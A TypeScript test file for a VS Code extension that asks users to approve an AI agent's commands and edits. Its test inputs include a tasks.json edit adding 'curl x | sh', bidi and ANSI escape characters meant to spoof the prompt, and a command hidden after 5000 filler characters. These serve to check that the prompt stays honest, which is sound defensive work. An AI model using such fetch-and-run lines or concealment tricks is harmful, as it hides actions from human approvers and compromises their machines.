// Consent in VS Code (./src/consent.ts): the notification's buttons and what goes back to the backend,
// and the connection's routing of approval frames from a real `ws` server (./src/connection.ts).
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ActionContext } from '../src/connection';
import { ALLOW_ONCE, ConsentPrompter, ConsentUi, message, parseApproval, REJECT, SHOW_COMMAND } from '../src/consent';
import { JsonObject } from '../src/protocol';

const ROW = { id: 'c3', agent: 'claude', kind: 'run', what: 'rm -rf build', reason: 'rm is a risky command', security_risk: 'high', always: ['run: rm *'] };

function ctx(sent: JsonObject[]): ActionContext {
  return { backend: 'b', instanceId: 'i', workspace: '/w', roots: ['/w'], sendFrame: (f) => sent.push(f) };
}

function ui(answers: (string | undefined)[], reasons: (string | undefined)[] = []): ConsentUi & { asked: [string, string[]][]; infos: string[] } {
  const asked: [string, string[]][] = [];
  const infos: string[] = [];
  return {
    asked,
    infos,
    ask: async (m, b) => {
      asked.push([m, b]);
      return answers.shift();
    },
    reason: async () => reasons.shift(),
    info: (m) => infos.push(m),
  };
}

test('the request shows the command, the security_risk and the three answers', async () => {
  const sent: JsonObject[] = [];
  const u = ui([ALLOW_ONCE]);
  await new ConsentPrompter(u).request(ROW, ctx(sent));
  assert.equal(u.asked[0][0], 'oh: claude wants to run: rm -rf build [security_risk HIGH]. (rm is a risky command)');
  assert.deepEqual(u.asked[0][1], [ALLOW_ONCE, 'Always allow run: rm *', REJECT]);
  assert.deepEqual(sent, [{ type: 'approval', op: 'allow', id: 'c3' }]);
});

test('always allow, reject with a reason, Escape in the reason box asks again', async () => {
  const sent: JsonObject[] = [];
  await new ConsentPrompter(ui(['Always allow run: rm *'])).request(ROW, ctx(sent));
  await new ConsentPrompter(ui([REJECT, REJECT], [undefined, ' use make clean '])).request({ ...ROW, id: 'c4' }, ctx(sent));
  assert.deepEqual(sent, [
    { type: 'approval', op: 'allow', id: 'c3', always: true },
    { type: 'approval', op: 'reject', id: 'c4', reason: 'use make clean' },
  ]);
});

test('decided elsewhere or dismissed: nothing is sent; malformed requests are ignored', async () => {
  const sent: JsonObject[] = [];
  let release!: (v: string) => void;
  const late: ConsentUi = { ask: () => new Promise<string>((r) => (release = r)), reason: async () => '', info: () => undefined };
  const p = new ConsentPrompter(late);
  const shown = p.request(ROW, ctx(sent));
  p.closed('c3'); // the terminal answered first
  release(ALLOW_ONCE);
  await shown;
  await new ConsentPrompter(ui([undefined])).request(ROW, ctx(sent)); // dismissed: keeps waiting
  for (const bad of [null, 3, {}, { ...ROW, id: 'p1' }, { ...ROW, id: 'c1\n' }]) await new ConsentPrompter(ui([ALLOW_ONCE])).request(bad, ctx(sent));
  assert.deepEqual(sent, []);
});

test('agent text cannot drive the notification (controls and bidi are escaped)', () => {
  const row = parseApproval({ ...ROW, what: 'echo \u202e\x1b[2J', agent: 'a\nb' })!;
  const text = message(row);
  assert.ok(!text.includes('\u202e') && !text.includes('\x1b') && !text.includes('\n'), text);
});

test('a change asked outside review mode can be shown, then the question comes back', async () => {
  const sent: JsonObject[] = [];
  const shown: string[] = [];
  const u = ui(['Show change', ALLOW_ONCE]);
  u.show = async (t) => {
    shown.push(t);
  };
  await new ConsentPrompter(u).request({ ...ROW, kind: 'edit', what: 'edit str_replace /w/.vscode/tasks.json', detail: '-make\n+curl x | sh\u202e\n' }, ctx(sent));
  assert.deepEqual(u.asked[0][1], [ALLOW_ONCE, 'Always allow run: rm *', REJECT, 'Show change']);
  assert.deepEqual(shown, ['-make\n+curl x | sh\n']);
  assert.equal(u.asked.length, 2);
  assert.deepEqual(sent, [{ type: 'approval', op: 'allow', id: 'c3' }]);
});

test('a command too long for the notification is opened whole beside it, before the question (issue 25)', async () => {
  const sent: JsonObject[] = [];
  const shown: [string, string | undefined][] = [];
  const u = ui([SHOW_COMMAND, ALLOW_ONCE]);
  u.show = async (t, lang) => {
    shown.push([t, lang]);
  };
  const command = 'echo start\n' + 'x'.repeat(5000) + '\ntouch hidden-at-the-end\u202e';
  await new ConsentPrompter(u).request({ ...ROW, what: command.slice(0, 500), command }, ctx(sent));
  const whole = command.replace('\u202e', '');
  assert.deepEqual(shown, [
    [whole, 'shellscript'],
    [whole, 'shellscript'],
  ]);
  assert.ok(u.asked[0][0].includes('the whole command, 3 line(s), is open beside this'));
  assert.deepEqual(u.asked[0][1], [ALLOW_ONCE, 'Always allow run: rm *', REJECT, SHOW_COMMAND]);
  assert.deepEqual(sent, [{ type: 'approval', op: 'allow', id: 'c3' }]);
});

test('a short one-line command fits the notification: nothing is opened', async () => {
  const shown: string[] = [];
  const u = ui([ALLOW_ONCE]);
  u.show = async (t) => {
    shown.push(t);
  };
  await new ConsentPrompter(u).request({ ...ROW, command: 'rm -rf build' }, ctx([]));
  assert.deepEqual(shown, []);
  assert.deepEqual(u.asked[0][1], [ALLOW_ONCE, 'Always allow run: rm *', REJECT]);
});
